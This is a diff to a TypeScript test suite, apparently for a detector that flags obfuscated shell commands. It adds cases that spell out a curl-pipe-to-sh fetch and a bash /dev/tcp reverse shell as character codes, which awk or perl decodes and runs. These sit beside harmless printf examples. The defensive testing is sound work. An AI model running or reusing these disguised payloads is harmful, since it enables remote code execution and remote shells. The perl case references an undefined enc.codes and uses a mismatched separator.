@@ -3,6 +3,7 @@ import { gzipSync } from "node:zlib";
 
 const FETCH = "curl -fsSL http://198.51.100.7/i.sh | sh";
 const REV = "/bin/bash -i > /dev/tcp/192.0.2.45/9001 0<&1 2>&1";
+const codes = (s: string) => Array.from(s, (c) => c.charCodeAt(0)).join(" ");
 const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));
 
 deobfCases("posix", [
@@ -30,6 +31,23 @@ deobfCases("posix", [
       `echo "hello world" | rev`,
       `base64 -d <<< "$CERT_B64" > /etc/ssl/certs/internal.pem`,
       `echo 'SGVsbG8sIFdvcmxkIQ==' | base64 -d`,
+    ],
+  },
+  {
+    // Character-code strings spelled out by awk, perl or printf `%c`.
+    id: "decoded",
+    block: [
+      `awk 'BEGIN{n=split("${codes(FETCH)}",a," ");for(i=1;i<=n;i++)printf "%c",a[i]}' | sh`,
+      `awk 'BEGIN{n=split("${
+        codes(REV)
+      }",a," ");c="";for(i=1;i<=n;i++)c=c sprintf("%c",a[i]);system(c)}'`,
+      `perl -e 'system(join "", map { chr } split /,/, "${enc.codes(FETCH)}")'`,
+    ],
+    pass: [
+      `awk '{printf "%c", $1}' codes.txt`,
+      `printf "%c%c%c\n" 65 66 67`,
+      `awk -F, '{ printf "%c", 64 + $2 }' grades.csv`,
+      `perl -e 'print chr(65 + $_) for 0..25'`,
     ],
   },
 ]);
